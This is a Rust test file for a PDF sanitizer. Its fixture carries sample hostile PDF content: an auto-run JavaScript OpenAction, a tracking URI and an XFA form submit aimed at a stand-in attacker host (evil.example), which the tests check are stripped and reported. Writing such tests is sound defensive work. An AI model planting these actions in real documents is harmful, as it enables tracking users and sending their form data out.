//! Universal invariants, driven through the byte-level strategy: the
//! fixture deliberately carries no cross-reference table, so the
//! structural parser fails and the orchestrator falls back.

mod common;

use common::contains;
use pdf_sanitizer::{sanitize, RegionClass, SanitizeOptions, StreamRegionIndex};

/// PDF-shaped bytes with every class of active content, plus a binary
/// stream holding bait that must survive untouched.
fn raw_threat_document() -> Vec<u8> {
    let mut buf = Vec::new();
    buf.extend_from_slice(b"%PDF-1.4\n");
    buf.extend_from_slice(
        b"1 0 obj\n<< /Length 44 >>\nstream\n/OpenAction << /S /URI >> http://keep.example/bin\nendstream\nendobj\n",
    );
    buf.extend_from_slice(
        b"2 0 obj\n<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert\\(1\\);) >> /AcroForm << /Fields [] /XFA 4 0 R >> >>\nendobj\n",
    );
    buf.extend_from_slice(b"3 0 obj\n<< /S /URI /URI (http://evil.example/track) >>\nendobj\n");
    buf.extend_from_slice(
        b"4 0 obj\n<< /Subtype /XML /Length 120 >>\nstream\n<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\">\n<xdp:submit format=\"xml\" target=\"http://evil.example/collect\"/>\n</xdp:xdp>\nendstream\nendobj\n",
    );
    buf
}

#[test]
fn byte_level_path_preserves_length() {
    let input = raw_threat_document();
    let outcome = sanitize(&input, &SanitizeOptions::all());
    assert_eq!(outcome.bytes.len(), input.len());
    assert!(outcome.report.warning.is_some(), "parser fallback expected");
}

#[test]
fn every_threat_class_is_reported() {
    let input = raw_threat_document();
    let outcome = sanitize(&input, &SanitizeOptions::all());
    let items = &outcome.report.items;

    assert!(items.iter().any(|item| item.contains("OpenAction")));
    assert!(items.iter().any(|item| item.contains("XFA form reference")));
    assert!(items.iter().any(|item| item.contains("XFA submit URL")));
    assert!(items.iter().any(|item| item.contains("XFA submit tag")));
    assert!(items.iter().any(|item| item.contains("/URI action")));
    assert!(items.iter().any(|item| item.contains("external URL")));
    assert!(items.iter().any(|item| item.contains("AcroForm")));

    assert!(!contains(&outcome.bytes, b"evil.example"));
}

#[test]
fn sanitization_is_idempotent() {
    let input = raw_threat_document();
    let first = sanitize(&input, &SanitizeOptions::all());
    let second = sanitize(&first.bytes, &SanitizeOptions::all());

    assert_eq!(first.bytes, second.bytes);
    assert!(second.report.items.is_empty(), "{:?}", second.report.items);
}

#[test]
fn binary_regions_survive_byte_identically() {
    let input = raw_threat_document();
    let index = StreamRegionIndex::scan(&input);
    let binary = index
        .regions()
        .iter()
        .find(|region| region.class == RegionClass::Binary)
        .copied()
        .expect("fixture has a binary stream");

    let outcome = sanitize(&input, &SanitizeOptions::all());
    assert_eq!(
        &outcome.bytes[binary.start..binary.end],
        &input[binary.start..binary.end]
    );
    assert!(contains(&outcome.bytes, b"http://keep.example/bin"));
}

#[test]
fn namespace_urls_survive_byte_identically() {
    let input = raw_threat_document();
    let outcome = sanitize(&input, &SanitizeOptions::all());
    assert!(contains(
        &outcome.bytes,
        b"xmlns:xdp=\"http://ns.adobe.com/xdp/\""
    ));
}

#[test]
fn clean_input_produces_no_report_items() {
    let input = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n".to_vec();
    let outcome = sanitize(&input, &SanitizeOptions::all());
    assert_eq!(outcome.bytes, input);
    assert!(outcome.report.items.is_empty());
}

#[test]
fn all_false_options_are_the_identity() {
    let input = raw_threat_document();
    let outcome = sanitize(&input, &SanitizeOptions::none());
    assert_eq!(outcome.bytes, input);
    assert!(outcome.report.is_clean());
}

#[test]
fn options_gate_their_rule_families() {
    let input = raw_threat_document();

    let forms_only = SanitizeOptions {
        remove_links: false,
        remove_forms: true,
        remove_javascript: false,
    };
    let outcome = sanitize(&input, &forms_only);
    // Forms machinery goes away, URLs outside it stay.
    assert!(!contains(&outcome.bytes, b"/AcroForm"));
    assert!(contains(&outcome.bytes, b"http://evil.example/track"));
    assert!(!outcome
        .report
        .items
        .iter()
        .any(|item| item.contains("external URL")));
}
